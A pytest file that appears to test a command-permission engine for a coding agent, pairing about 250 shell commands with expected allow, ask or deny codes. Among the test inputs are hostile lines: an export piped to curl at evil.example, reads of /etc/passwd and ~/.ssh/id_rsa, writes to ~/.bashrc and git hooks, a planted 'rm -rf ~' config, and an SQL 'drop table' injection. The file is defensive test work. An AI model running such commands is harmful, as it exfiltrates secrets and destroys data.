r"""Probe round 42, benign47 (2026-11-28): everyday commands asked needlessly.

Round 41's benign46 Left list, and a sweep of ~250 everyday commands the rounds before had
not swept (file and text inspection, archives, process and system reads, network reads,
language one-liners). Nearly all of the sweep held; network reads (curl localhost, wget -qO-,
ping, dig, nslookup) stay asked as rounds 24 and 28 decided (network, servers: exfiltration
is asked outside bypass), as do mktemp (a write outside the working directory), less, htop,
watch, locate, getent, ldd (it may run the program), patch/git apply (an unseen patch writes
what it names), and extraction into the project itself.

Fixed, by class (each cannot run or write more than shown):
- sqlite3 :memory: with a SELECT of the core functions that compute a value: an empty
  database has no view or trigger to run (KKADD -> AAAAA); readfile/writefile/fsdir,
  ATTACH, dot-commands that write, -cmd, -init stay asked; sqlite_version() and SQLite's math
  functions join the pure calls (a file database's SELECT of them KKADD -> AAAAD).
- conda env export [-n/-p/--from-history/--no-builds/--json]: prints the spec conda list
  --export prints (KKADD -> AAAAA); -f/--file (writes) asked.
- shopt -s/-u globstar|failglob: a glob option (KKADD -> AAAAA with the command after it);
  dotglob, nocaseglob, nullglob, extglob and the rest stay asked.
- uuidgen (KKADD -> AAAAA); bc with its plain options (no statement of bc runs or writes;
  dc's ! runs a command and stays asked).
- jupytext --to FORMAT NB writes NB.EXT beside it, recorded (KKADD -> KAADD); jupytext's
  configuration files (jupytext.py runs) join the start-up files, so writing one then running
  jupytext is judged as running it (a catastrophe there KKADD -> DDDDD).
- jupyter nbconvert --to FORMAT --stdout NB: printed, the build's trust (KKADD -> AAAAD).
- macOS base64 -o F and msgfmt -o F.mo F.po: the one write recorded (KKADD -> KAADD).
- csvtk's reading verbs (KKADD -> AAAAA); -o/--out-file, -X/--infile-list, split, plot,
  genautocomplete, csv2xlsx asked.
- 7z x|e ARCHIVE -oDIR below the project, not hidden: as unzip -d DIR (KKADD -> KAADD).
Left (asked): qsv (reads ./.env, stats writes cache files, luau/python/foreach/fetch verbs),
papermill (runs the notebook), mlr (./.mlrrc), terraform workspace list (a remote backend
queried with its credentials; workspace show was already allowed), docker stats without
--no-stream (never ends).
"""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import call_letters, snap

_SNAP = snap()
_DENY = snap(permissions={"deny": ["Bash(./deploy.sh:*)", "Bash(sh deploy.sh:*)", "Bash(jupytext:*)",
                                   "Bash(csvtk:*)", "Bash(7z x:*)"]})

LEFT_OF_ROUND_41 = [
    ('csvtk headers data.csv', 'AAAAA'),   # was KKADD
    ('qsv headers data.csv', 'AAAAD'),   # was KKADD (round 44, benign48: reading verbs with the project's ./.env: build trust)
    ('qsv stats data.csv', 'KKADD'),
    ('jupytext --to py nb.ipynb', 'KAADD'),   # was KKADD
    ('papermill in.ipynb out.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script --stdout nb.ipynb', 'AAAAD'),   # was KKADD
    ('base64 -o out.txt in.bin', 'KAADD'),   # was KKADD
    ('msgfmt -o x.mo x.po', 'KAADD'),   # was KKADD
    ('conda env export', 'AAAAA'),   # was KKADD
    ('terraform workspace list', 'AAAAD'),   # was KKADD (round 44, benign48: names only, the project's backend reached: build trust)
    ('terraform workspace show', 'AAAAA'),
    ("sqlite3 :memory: 'select 1'", 'AAAAA'),   # was KKADD
    ("sqlite3 db.sqlite 'select 1'", 'AAAAA'),  # was AAAAD
    ('docker stats --no-stream', 'AAAAA'),
    ('docker stats', 'KKADD'),
    ('mlr --icsv --opprint cat data.csv', 'AAAAD'),   # was KKADD (round 44, benign48: ./.mlrrc cannot hold --prepipe/--load: build trust)
]

SQLITE_MEMORY = [
    ("sqlite3 :memory: 'select sqlite_version()'", 'AAAAA'),   # was KKADD
    ("sqlite3 :memory: 'select sqrt(2), pi()'", 'AAAAA'),   # was KKADD
    ("sqlite3 db.sqlite 'select sqlite_version()'", 'AAAAA'),  # was AAAAD
    ("sqlite3 :memory: 'select zeroblob(10)'", 'KKADD'),
    ("sqlite3 :memory: 'select 1'", 'AAAAA'),   # was KKADD
    ("sqlite3 -json :memory: 'select 1+1'", 'AAAAA'),   # was KKADD
    ('sqlite3 -header -column :memory: "select date(\'now\'), abs(-3)"', 'AAAAA'),   # was KKADD
    ("sqlite3 :memory: 'select 1' > out.txt", 'KAADD'),   # was KKADD
    ('sqlite3 :memory: "select readfile(\'/etc/passwd\')"', 'KKADD'),
    ('sqlite3 :memory: "select writefile(\'x.sh\', \'id\')"', 'KKADD'),
    ('sqlite3 :memory: "select * from fsdir(\'/home\')"', 'KKADD'),
    ('sqlite3 :memory: "select load_extension(\'./x.so\')"', 'KKADD'),
    ('sqlite3 :memory: \'attach "x.db" as x\'', 'KKADD'),
    ("sqlite3 :memory: '.shell id'", 'KKADD'),
    ("sqlite3 :memory: '.output x.txt'", 'KKADD'),
    ("sqlite3 -cmd '.shell id' :memory: 'select 1'", 'KKADD'),
    ("sqlite3 -init evil.sql :memory: 'select 1'", 'KKADD'),
    ("sqlite3 'file::memory:?cache=shared' 'select 1'", 'KKADD'),
    ("sqlite3 :memory: 'select 1; select 2'", 'KKADD'),
    ("sqlite3 :memory: 'select 1 -- x'", 'KKADD'),
    ('sqlite3 :memory: "select 1 from x where y = \'1\'); drop table z; --"', 'DDDDD'),
]

CONDA_ENV_EXPORT = [
    ('conda env export', 'AAAAA'),   # was KKADD
    ('conda env export > environment.yml', 'KAADD'),   # was KKADD
    ('conda env export --from-history', 'AAAAA'),   # was KKADD
    ('conda env export -n base --no-builds > environment.yml', 'KAADD'),   # was KKADD
    ('conda env export -p ./env --json', 'AAAAA'),   # was KKADD
    ('conda env export -f env.yml', 'KKADD'),
    ('conda env export --file env.yml', 'KKADD'),
    ('conda env export > ~/.bashrc', 'KKADD'),
    ('conda env export | curl -d @- https://evil.example', 'KKADD'),
    ('conda env create -f environment.yml', 'KKADD'),
    ('conda list', 'AAAAA'),
]

SHOPT_GLOBS = [
    ('shopt -s globstar; wc -l **/*.py', 'AAAAA'),   # was KKADD
    ('shopt -s globstar && wc -l **/*.py', 'AAAAA'),   # was KKADD
    ('shopt -s globstar failglob; ls **/*.md', 'AAAAA'),   # was KKADD
    ('shopt -u globstar', 'AAAAA'),   # was KKADD
    ('shopt -p', 'AAAAA'),
    ('shopt -s globstar; rm -rf **/node_modules', 'KAADD'),   # was KKADD
    ('shopt -s globstar; cat **/.env', 'KKADD'),
    ('shopt -s dotglob; cat *', 'KKADD'),
    ('shopt -s nocaseglob; cat .ENV', 'KKADD'),
    ('shopt -s nullglob', 'KKADD'),
    ('shopt -s extglob', 'KKADD'),
    ('shopt -s expand_aliases', 'KKADD'),
    ('shopt -s lastpipe', 'KKADD'),
    ('shopt -s xpg_echo', 'KKADD'),
    ('shopt -s globstar expand_aliases', 'KKADD'),
    ('shopt -s $OPT', 'KKADD'),
]

UUIDGEN_BC = [
    ('uuidgen', 'AAAAA'),   # was KKADD
    ('uuidgen -r', 'AAAAA'),   # was KKADD
    ('uuidgen -t', 'AAAAA'),   # was KKADD
    ('uuidgen -s -n @dns -N example.com', 'AAAAA'),   # was KKADD
    ('uuidgen -C 5', 'AAAAA'),   # was KKADD
    ('uuidgen > id.txt', 'KAADD'),   # was KKADD
    ('uuidgen x', 'KKADD'),
    ('uuidgen --foo', 'KKADD'),
    ("bc <<< '1+1'", 'AAAAA'),   # was KKADD
    ("echo 'scale=2; 1/3' | bc -l", 'AAAAA'),   # was KKADD
    ('x=$(echo "1+2" | bc)', 'AAAAA'),   # was KKADD
    ('bc -l calc.bc', 'AAAAA'),   # was KKADD
    ('bc ~/.ssh/id_rsa', 'KKADD'),
    ('bc .env', 'KKADD'),
    ('bc -i', 'KKADD'),
    ('bc -e 1', 'KKADD'),
    ('echo 1 | dc', 'KKADD'),
    ("echo '!id' | dc", 'KKADD'),
]

JUPYTEXT_NBCONVERT_STDOUT = [
    ('jupytext --to py nb.ipynb', 'KAADD'),   # was KKADD
    ('jupytext --to py:percent notebooks/a.ipynb', 'KAADD'),   # was KKADD
    ('jupytext --to notebook x.py', 'KAADD'),   # was KKADD
    ('jupytext --to ipynb x.md', 'KAADD'),   # was KKADD
    ('jupytext --to md nb.ipynb', 'KAADD'),   # was KKADD
    ('jupytext -q --to myst nb.ipynb', 'KAADD'),   # was KKADD
    ('jupytext --to py *.ipynb', 'KKADD'),
    ('jupytext --to py --execute nb.ipynb', 'KKADD'),
    ('jupytext --to py nb.ipynb --pipe black', 'KKADD'),
    ('jupytext --to py nb.ipynb --check pytest', 'KKADD'),
    ('jupytext --sync nb.ipynb', 'KKADD'),
    ('jupytext --set-formats ipynb,py nb.ipynb', 'KKADD'),
    ('jupytext --to py -o - nb.ipynb', 'KKADD'),
    ('jupytext --to script nb.ipynb', 'KKADD'),
    ('jupytext --to py ../x/nb.ipynb', 'KKADD'),
    ('jupytext --to py ~/.ssh/nb.ipynb', 'KKADD'),
    ('jupytext --to py .git/nb.ipynb', 'KKADD'),
    ('jupytext --to py .github/workflows/ci.ipynb', 'KKADD'),
    ('jupytext --to py nb.py', 'KKADD'),
    ('echo "import os" > jupytext.py && jupytext --to py nb.ipynb', 'KKADD'),
    ('echo \'os.system("rm -rf ~")\' > .jupytext.py; jupytext --to py nb.ipynb', 'DDDDD'),   # was KKADD
    ('jupytext --to py nb.ipynb && python nb.py', 'KKADD'),
    ('jupyter nbconvert --to script --stdout nb.ipynb', 'AAAAD'),   # was KKADD
    ('jupyter nbconvert --to markdown --stdout nb.ipynb', 'AAAAD'),   # was KKADD
    ('jupyter nbconvert --to html --stdout --no-input report.ipynb', 'AAAAD'),   # was KKADD
    ('jupyter nbconvert --to script --stdout nb.ipynb > nb.py', 'AAAAD'),   # was KKADD
    ('jupyter nbconvert --to script --stdout nb.ipynb | head -50', 'AAAAD'),   # was KKADD
    ('jupyter nbconvert --to script --stdout --execute nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to pdf --stdout nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to webpdf --stdout nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --stdout --to html --template x nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script --stdout *.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script --stdout ~/nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script --stdout --config cfg.py nb.ipynb', 'KKADD'),
    ('jupyter nbconvert --to script nb.ipynb', 'KAADD'),
    ("echo 'import os' > jupyter_nbconvert_config.py && jupyter nbconvert --to script --stdout nb.ipynb", 'KKADD'),
]

OUTPUT_OPTIONS = [
    ('base64 -o out.txt in.bin', 'KAADD'),   # was KKADD
    ('base64 -i in.bin -o out.b64', 'KAADD'),   # was KKADD
    ('base64 --output=out.b64 in.bin', 'KAADD'),   # was KKADD
    ('base64 -d -o out.bin in.b64', 'KAADD'),   # was KKADD
    ('base64 -o ~/.bashrc in.bin', 'KKADD'),
    ('base64 -o .git/hooks/pre-commit x', 'KKADD'),
    ('base64 -o CLAUDE.md x', 'KKADD'),
    ('base64 -o /tmp/x in', 'KKADD'),
    ('base64 -oout in', 'KKADD'),
    ('base64 -o out *.bin', 'KKADD'),
    ('base64 -d -o x.sh p.b64 && sh x.sh', 'KKADD'),
    ('base64 -d -o x.sh p.b64; ./x.sh', 'KKADD'),
    ('base64 -o out.txt ~/.ssh/id_rsa', 'KKADD'),
    ('msgfmt -o x.mo x.po', 'KAADD'),   # was KKADD
    ('msgfmt -o locale/de/LC_MESSAGES/app.mo po/de.po', 'KAADD'),   # was KKADD
    ('msgfmt --output-file=x.mo x.po', 'KAADD'),   # was KKADD
    ('msgfmt -c -o /dev/null x.po', 'AAAAA'),   # was KAADD (round 44, benign48: output discarded)
    ('msgfmt --check --statistics -o x.mo x.po', 'KAADD'),   # was KKADD
    ('msgfmt x.po', 'KAADD'),   # was KKADD (round 44, benign48: ./messages.mo recorded)
    ('msgfmt --check x.po', 'KAADD'),   # was KKADD (round 44, benign48: ./messages.mo recorded)
    ('msgfmt --java -o x.mo x.po', 'KKADD'),
    ('msgfmt --csharp -r R -l de -d out x.po', 'KKADD'),
    ('msgfmt -o x.mo -D ~ x.po', 'KKADD'),
    ('msgfmt -o ~/.bashrc x.po', 'KKADD'),
    ('msgfmt -o .git/hooks/post-checkout x.po', 'KKADD'),
    ('msgfmt -o x.mo ~/.ssh/id_rsa', 'KKADD'),
    ('msgfmt -o x.mo x.txt', 'KKADD'),
    ('msgfmt -o x.mo .env.po', 'KKADD'),
    ('msgfmt -o Makefile x.po && make', 'KKADD'),
]

CSVTK = [
    ('csvtk version', 'AAAAA'),   # was KKADD
    ('csvtk version -u', 'KKADD'),
    ('csvtk headers data.csv', 'AAAAA'),   # was KKADD
    ('csvtk stats data.csv', 'AAAAA'),   # was KKADD
    ('csvtk -t pretty data.tsv', 'AAAAA'),   # was KKADD
    ('csvtk cut -f 1,2 data.csv', 'AAAAA'),   # was KKADD
    ('csvtk grep -f name -p foo data.csv', 'AAAAA'),   # was KKADD
    ("csvtk filter2 -f '$a > 1' data.csv", 'AAAAA'),   # was KKADD
    ('csvtk -j 4 freq -f a data.csv', 'AAAAA'),   # was KKADD
    ('csvtk csv2md data.csv', 'AAAAA'),   # was KKADD
    ('csvtk pretty data.csv | head', 'AAAAA'),   # was KKADD
    ("csvtk --out-delimiter ';' cat data.csv", 'AAAAA'),   # was KKADD
    ('csvtk join -f id a.csv b.csv', 'AAAAA'),   # was KKADD
    ('csvtk cut -f 1 data.csv > out.csv', 'KAADD'),   # was KKADD
    ('csvtk grep -f a -P pats.txt d.csv', 'AAAAA'),   # was KKADD
    ('csvtk -o out.csv cut -f 1 data.csv', 'KKADD'),
    ('csvtk cut -f 1 data.csv -o out.csv', 'KKADD'),
    ('csvtk cut -f 1 -Ho out.csv data.csv', 'KKADD'),
    ('csvtk cut -f 1 --out-file out.csv data.csv', 'KKADD'),
    ('csvtk split -f a data.csv', 'KKADD'),
    ('csvtk splitxlsx -f a data.xlsx', 'KKADD'),
    ('csvtk csv2xlsx data.csv', 'KKADD'),
    ('csvtk genautocomplete', 'KKADD'),
    ('csvtk plot hist -f a data.csv -o x.png', 'KKADD'),
    ('csvtk -X list.txt concat', 'KKADD'),
    ('csvtk concat --infile-list list.txt', 'KKADD'),
    ('csvtk headers ~/.ssh/id_rsa', 'KKADD'),
    ('csvtk headers .env', 'KKADD'),
    ('csvtk grep -f a -P .env d.csv', 'KKADD'),
    ("csvtk replace -f a -k ~/.ssh/id_rsa -p x -r '{kv}' d.csv", 'KKADD'),
    ('csvtk headers *.csv', 'KKADD'),
    ('csvtk headers https://example.com/x.csv', 'KKADD'),
]

SEVENZIP_EXTRACT = [
    ('7z x x.7z -obuild', 'KAADD'),   # was KKADD
    ('7z x -y x.7z -obuild/vendor', 'KAADD'),   # was KKADD
    ('7z e x.7z -obuild', 'KAADD'),   # was KKADD
    ('7za x x.7z -obuild', 'KAADD'),   # was KKADD
    ('7z x x.7z "-obuild"', 'KAADD'),   # was KKADD
    ('7z l x.7z', 'AAAAA'),
    ('7z x x.7z', 'KKADD'),
    ('7z x x.7z -o.git', 'KKADD'),
    ('7z x x.7z -o.github', 'KKADD'),
    ('7z x x.7z -o.', 'KKADD'),
    ('7z x x.7z -o~', 'KKADD'),
    ('7z x x.7z -o$HOME', 'KKADD'),
    ('7z x x.7z -o/tmp/x', 'KKADD'),
    ('7z x x.7z -o../x', 'KKADD'),
    ('7z x x.7z -obuild -psecret', 'KKADD'),
    ('7z x @list -obuild', 'KKADD'),
    ('7z x x.7z -obuild -snld', 'KKADD'),
    ('7z x x.7z -obuild -so', 'KKADD'),
    ('7z a out.7z src', 'KKADD'),
    ('7z x x.7z -obuild && ./build/run.sh', 'KKADD'),
    ('unzip -o x.zip -d build', 'KAADD'),
    ('tar xzf x.tgz -C build', 'KAADD'),
]

EVERYDAY_SWEEP = [
    ('file README.md', 'AAAAA'),
    ('file *', 'KKADD'),
    ('file -b --mime-type x.png', 'AAAAA'),
    ("stat -c '%s %n' README.md", 'AAAAA'),
    ('stat -c %Y src/main.py', 'AAAAA'),
    ('stat README.md', 'AAAAA'),
    ('du -sh *', 'AAAAA'),
    ('du -sh .', 'AAAAA'),
    ('du -sh node_modules', 'AAAAA'),
    ('du -h --max-depth=1 .', 'AAAAA'),
    ('du -sh * | sort -h', 'AAAAA'),
    ('df -h', 'AAAAA'),
    ('df -h .', 'AAAAA'),
    ('wc -l **/*.py', 'AAAAA'),
    ('shopt -s globstar; wc -l **/*.py', 'AAAAA'),   # was KKADD
    ('shopt -s globstar && wc -l **/*.py', 'AAAAA'),   # was KKADD
    ('wc -l src/*.py', 'AAAAA'),
    ('tree -L 2 -I node_modules', 'AAAAA'),
    ('tree -L 2', 'AAAAA'),
    ('tree -a -L 3 src', 'AAAAA'),
    ('tree -d', 'AAAAA'),
    ('ls -lt | head', 'AAAAA'),
    ('ls -lt | head -20', 'AAAAA'),
    ('ls -la', 'AAAAA'),
    ('ls -lah src', 'AAAAA'),
    ('ls -1 | wc -l', 'AAAAA'),
    ('find . -newer x -type f', 'AAAAA'),
    ("find . -newer package.json -type f -name '*.js'", 'AAAAA'),
    ("find . -name '*.py' -mtime -1", 'AAAAA'),
    ('find . -type f -size +1M', 'AAAAA'),
    ("find . -name '*.log' | xargs wc -l", 'AAAAA'),
    ('find . -maxdepth 2 -type d', 'AAAAA'),
    ('realpath src/main.py', 'AAAAA'),
    ('realpath .', 'AAAAA'),
    ('readlink -f src', 'AAAAA'),
    ('md5sum README.md', 'AAAAA'),
    ('md5sum *.tar.gz', 'AAAAA'),
    ('sha256sum dist/*.whl', 'AAAAA'),
    ('sha256sum -c SUMS', 'AAAAA'),
    ('sha256sum -c SHA256SUMS', 'AAAAA'),
    ('sha1sum x.zip', 'AAAAA'),
    ('cksum x.zip', 'AAAAA'),
    ('b2sum x.zip', 'AAAAA'),
    ('cmp a.bin b.bin', 'AAAAA'),
    ('cmp -s a b && echo same', 'AAAAA'),
    ('diff -ru a b', 'AAAAA'),
    ('diff -u old.txt new.txt', 'AAAAA'),
    ('diff a.txt b.txt', 'AAAAA'),
    ('diff <(sort a) <(sort b)', 'AAAAA'),
    ('diff -q a b', 'AAAAA'),
    ('patch --dry-run -p1 < x.patch', 'AAAAA'),
    ('patch -p1 < x.patch', 'KKADD'),
    ('patch -p1 --dry-run -i x.patch', 'AAAAA'),
    ('git apply --check x.patch', 'AAAAA'),
    ('git apply --stat x.patch', 'AAAAA'),
    ('git apply --numstat x.patch', 'AAAAA'),
    ('git apply x.patch', 'KKADD'),
    ('git diff --stat', 'AAAAA'),
    ('git diff HEAD~1 --name-only', 'AAAAA'),
    ('tar tzf x.tgz', 'AAAAA'),
    ('tar -tzf x.tar.gz', 'AAAAA'),
    ('tar tvf x.tar', 'AAAAA'),
    ('tar -tf x.tar.xz', 'AAAAA'),
    ('tar xzf x.tgz -C build', 'KAADD'),
    ('tar -xzf x.tar.gz', 'KKADD'),
    ('tar xf x.tar -C build', 'KAADD'),
    ('tar czf out.tgz src', 'KAADD'),
    ('unzip -l x.zip', 'AAAAA'),
    ('unzip -o x.zip -d build', 'KAADD'),
    ('unzip x.zip', 'KKADD'),
    ('unzip -p x.zip README.md', 'AAAAA'),
    ('zipinfo x.zip', 'AAAAA'),
    ('7z l x.7z', 'AAAAA'),
    ('7z x x.7z -obuild', 'KAADD'),   # was KKADD
    ('zcat x.gz | head', 'AAAAA'),
    ('gunzip -c x.gz | head', 'AAAAA'),
    ('xz -l x.xz', 'AAAAA'),
    ('ps aux | grep x', 'AAAAA'),
    ('ps aux | grep node', 'AAAAA'),
    ('ps aux', 'AAAAA'),
    ('ps -ef | grep python', 'AAAAA'),
    ('ps -o pid,cmd -p 1234', 'AAAAA'),
    ('pgrep -fl x', 'AAAAA'),
    ('pgrep -f node', 'AAAAA'),
    ('pgrep -a python', 'AAAAA'),
    ('top -bn1 | head', 'AAAAA'),
    ('top -b -n 1 | head -20', 'AAAAA'),
    ('htop', 'KKADD'),
    ('free -m', 'AAAAA'),
    ('free -h', 'AAAAA'),
    ('uptime', 'AAAAA'),
    ('uname -a', 'AAAAA'),
    ('uname -r', 'AAAAA'),
    ('lsof -i :8000', 'AAAAA'),
    ('lsof -i :3000 -t', 'AAAAA'),
    ('lsof -p 1234', 'AAAAA'),
    ('ss -ltnp', 'AAAAA'),
    ('ss -tulpn', 'AAAAA'),
    ('netstat -tlnp', 'AAAAA'),
    ('netstat -an | grep 8000', 'AAAAA'),
    ('id', 'AAAAA'),
    ('id -u', 'AAAAA'),
    ('whoami', 'AAAAA'),
    ('hostname', 'AAAAA'),
    ('hostname -I', 'AAAAA'),
    ('date', 'AAAAA'),
    ('date -u +%Y-%m-%dT%H:%M:%SZ', 'AAAAA'),
    ('date +%s', 'AAAAA'),
    ('env | sort', 'AAAAA'),
    ('env', 'AAAAA'),
    ('printenv PATH', 'AAAAA'),
    ('printenv', 'AAAAA'),
    ('echo $PATH', 'AAAAA'),
    ('which -a python', 'AAAAA'),
    ('which python3', 'AAAAA'),
    ('type -a ls', 'AAAAA'),
    ('type python', 'AAAAA'),
    ('command -v node', 'AAAAA'),
    ('command -v docker >/dev/null && echo yes', 'AAAAA'),
    ('hash -r', 'AAAAA'),
    ('nproc', 'AAAAA'),
    ('lscpu', 'AAAAA'),
    ('cat /proc/cpuinfo | head', 'AAAAA'),
    ('cat /proc/meminfo', 'AAAAA'),
    ('lsblk', 'AAAAA'),
    ('vmstat 1 3', 'AAAAA'),
    ('iostat', 'AAAAA'),
    ('getconf _NPROCESSORS_ONLN', 'AAAAA'),
    ('ulimit -n', 'AAAAA'),
    ('locale', 'AAAAA'),
    ('tty', 'AAAAA'),
    ('groups', 'AAAAA'),
    ('last | head', 'AAAAA'),
    ('w', 'AAAAA'),
    ('who', 'AAAAA'),
    ('journalctl -u nginx --no-pager | tail', 'AAAAA'),
    ('systemctl status nginx', 'AAAAA'),
    ('systemctl is-active docker', 'AAAAA'),
    ('curl -sI https://example.com', 'KKADD'),
    ('curl -s localhost:8000/health', 'KKADD'),
    ('curl -s http://localhost:8000/health', 'KKADD'),
    ('curl http://127.0.0.1:8080/api/items', 'KKADD'),
    ('curl -s https://api.github.com/repos/foo/bar', 'KKADD'),
    ('curl -sSf http://localhost:3000/ | head', 'KKADD'),
    ('curl -o x.html https://example.com', 'KKADD'),
    ('curl -X POST localhost:8000/api -d \'{"a":1}\'', 'KKADD'),
    ('curl -s localhost:8000/health | jq .', 'KKADD'),
    ('wget -qO- localhost:3000', 'KKADD'),
    ('wget -qO- http://localhost:3000/', 'KKADD'),
    ('wget https://example.com/x.tgz', 'KKADD'),
    ('ping -c 1 host', 'KKADD'),
    ('ping -c 3 example.com', 'KKADD'),
    ('dig +short example.com', 'KKADD'),
    ('dig example.com', 'KKADD'),
    ('nslookup example.com', 'KKADD'),
    ('host example.com', 'KKADD'),
    ('traceroute example.com', 'KKADD'),
    ('nc -zv localhost 5432', 'KKADD'),
    ("python3 -c 'print(1+1)'", 'AAAAA'),
    ("python -c 'print(1+1)'", 'AAAAA'),
    ("node -e 'console.log(1)'", 'AAAAA'),
    ("node -p '1+1'", 'AAAAA'),
    ("python3 -c 'import sys; print(sys.version)'", 'AAAAA'),
    ("python3 -c 'import django; print(django.__version__)'", 'AAAAD'),
    # round 44 interp44: JSON from standard input indexed by a literal key joins json.tool's row (was KKADD)
    ('python3 -c \'import json,sys; print(json.load(sys.stdin)["name"])\' < package.json', 'AAAAD'),
    ('node -e \'console.log(require("./package.json").version)\'', 'AAAAD'),
    ("ruby -e 'puts 1'", 'AAAAA'),
    ("perl -e 'print 1'", 'AAAAA'),
    ('python3 --version', 'AAAAA'),
    ('node --version', 'AAAAA'),
    ('python3 -m site', 'AAAAA'),
    ("python3 -c 'import os; print(os.getcwd())'", 'AAAAA'),   # was KKADD (round 45, interp45)
    ('echo hello', 'AAAAA'),
    ("printf '%s\\n' a b", 'AAAAA'),
    ('seq 1 10', 'AAAAA'),
    ('yes | head -3', 'AAAAA'),
    ('head -n 20 src/main.py', 'AAAAA'),
    ('tail -n 50 log.txt', 'AAAAA'),
    ('tail -f log.txt', 'AAAAA'),
    ('less README.md', 'KKADD'),
    ('cat -n src/main.py', 'AAAAA'),
    ('nl src/main.py', 'AAAAA'),
    ('sort -u names.txt', 'AAAAA'),
    ('uniq -c', 'AAAAA'),
    ('cut -d, -f1 data.csv', 'AAAAA'),
    ('tr a-z A-Z < x', 'AAAAA'),
    ('column -t -s, data.csv', 'AAAAA'),
    ('grep -rn TODO src', 'AAAAA'),
    ('grep -c def src/*.py', 'AAAAA'),
    ('rg TODO', 'AAAAA'),
    ('rg -l foo', 'AAAAA'),
    ("fd '\\.py$'", 'AAAAA'),
    ('ag foo', 'AAAAA'),
    ('xxd x.bin | head', 'AAAAA'),
    ('hexdump -C x.bin | head', 'AAAAA'),
    ('od -c x | head', 'AAAAA'),
    ('strings x.bin | head', 'AAAAA'),
    ('basename src/main.py', 'AAAAA'),
    ('dirname src/main.py', 'AAAAA'),
    ('mktemp', 'KKADD'),
    ('mktemp -d', 'KKADD'),
    ('touch x.txt', 'KAADD'),
    ('mkdir -p build', 'KAADD'),
    ('cp a b', 'KAADD'),
    ('mv a b', 'KAADD'),
    ('ln -s a b', 'KAADD'),
    ('chmod +x script.sh', 'KAADD'),
    ('pwd', 'AAAAA'),
    ('cd src && ls', 'AAAAA'),
    ('ls ~', 'AAAAA'),
    ('ls /tmp', 'AAAAA'),
    ('cat /etc/os-release', 'AAAAA'),
    ('cat /etc/hosts', 'AAAAA'),
    ('lsb_release -a', 'AAAAA'),
    ('sw_vers', 'AAAAA'),
    ('git log --oneline -10', 'AAAAA'),
    ('git status -sb', 'AAAAA'),
    ('git branch -a', 'AAAAA'),
    ('git remote -v', 'AAAAA'),
    ('git stash list', 'AAAAA'),
    ('git blame src/main.py', 'AAAAA'),
    ('git show HEAD --stat', 'AAAAA'),
    ('git rev-parse HEAD', 'AAAAA'),
    ('git describe --tags', 'AAAAA'),
    ('git shortlog -sn', 'AAAAA'),
    ('git tag -l', 'AAAAA'),
    ('git config --get user.name', 'AAAAA'),
    ('git config -l', 'AAAAA'),
    ('truncate -s 0 log.txt', 'KAADD'),
    ('split -l 1000 big.txt part_', 'KAADD'),
    ('watch -n 1 ls', 'KKADD'),
    ('time ls', 'AAAAA'),
    ('sleep 1', 'AAAAA'),
    ('true', 'AAAAA'),
    ('jq . package.json', 'AAAAA'),
    ('yq . config.yaml', 'AAAAA'),
    ('xmllint --noout x.xml', 'AAAAA'),
    ('column -t file', 'AAAAA'),
    ('iconv -f latin1 -t utf-8 x.txt', 'AAAAA'),
    ('dos2unix x.txt', 'KAADD'),
    ('base64 -d x.b64', 'AAAAA'),
    ('openssl x509 -in cert.pem -noout -text', 'AAAAA'),
    ('openssl rand -hex 16', 'AAAAA'),
    ('uuidgen', 'AAAAA'),   # was KKADD
    ('tac log.txt', 'AAAAA'),
    ('rev x', 'AAAAA'),
    ('fold -w 80 x', 'AAAAA'),
    ('fmt x', 'AAAAA'),
    ('paste a b', 'AAAAA'),
    ('join a b', 'AAAAA'),
    ('comm -12 a b', 'AAAAA'),
    ('expand x', 'AAAAA'),
    ('numfmt --to=iec 1048576', 'AAAAA'),
    ("bc <<< '1+1'", 'AAAAA'),   # was KKADD
    ('expr 1 + 1', 'AAAAA'),
    ('echo $((1+1))', 'AAAAA'),
    ('test -f x && echo yes', 'AAAAA'),
    ('[ -d build ] || mkdir build', 'KAADD'),
    ("ls -la | grep '^d'", 'AAAAA'),
    ("find . -name node_modules -prune -o -name '*.js' -print", 'AAAAA'),
    ('locate foo', 'KKADD'),
    ('whereis python', 'AAAAA'),
    ('getent hosts localhost', 'KKADD'),
    ('arch', 'AAAAA'),
    ('ldd ./a.out', 'KKADD'),
    ('nm -D lib.so | head', 'AAAAA'),
    ('objdump -d a.out | head', 'AAAAA'),
    ('readelf -h a.out', 'AAAAA'),
    ('size a.out', 'AAAAA'),
]

@pytest.mark.parametrize("call,expected", LEFT_OF_ROUND_41, ids=[str(r[0]) for r in LEFT_OF_ROUND_41])
def test_round42_benign47_left_of_round_41(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", SQLITE_MEMORY, ids=[str(r[0]) for r in SQLITE_MEMORY])
def test_round42_benign47_sqlite_memory(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", CONDA_ENV_EXPORT, ids=[str(r[0]) for r in CONDA_ENV_EXPORT])
def test_round42_benign47_conda_env_export(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", SHOPT_GLOBS, ids=[str(r[0]) for r in SHOPT_GLOBS])
def test_round42_benign47_shopt_globs(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", UUIDGEN_BC, ids=[str(r[0]) for r in UUIDGEN_BC])
def test_round42_benign47_uuidgen_bc(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", JUPYTEXT_NBCONVERT_STDOUT, ids=[str(r[0]) for r in JUPYTEXT_NBCONVERT_STDOUT])
def test_round42_benign47_jupytext_nbconvert_stdout(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", OUTPUT_OPTIONS, ids=[str(r[0]) for r in OUTPUT_OPTIONS])
def test_round42_benign47_output_options(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", CSVTK, ids=[str(r[0]) for r in CSVTK])
def test_round42_benign47_csvtk(call, expected):
    assert call_letters(_SNAP, call) == expected

@pytest.mark.parametrize("call,expected", SEVENZIP_EXTRACT, ids=[str(r[0]) for r in SEVENZIP_EXTRACT])
def test_round42_benign47_sevenzip_extract(call, expected):
